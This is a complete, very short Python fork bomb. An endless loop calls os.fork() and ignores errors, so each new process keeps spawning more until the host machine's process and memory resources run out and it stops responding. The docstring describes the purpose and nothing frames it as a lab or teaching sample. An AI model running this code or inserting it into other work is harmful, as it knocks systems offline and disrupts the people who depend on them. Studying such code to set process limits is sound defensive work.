"""Forks without end; every process does."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
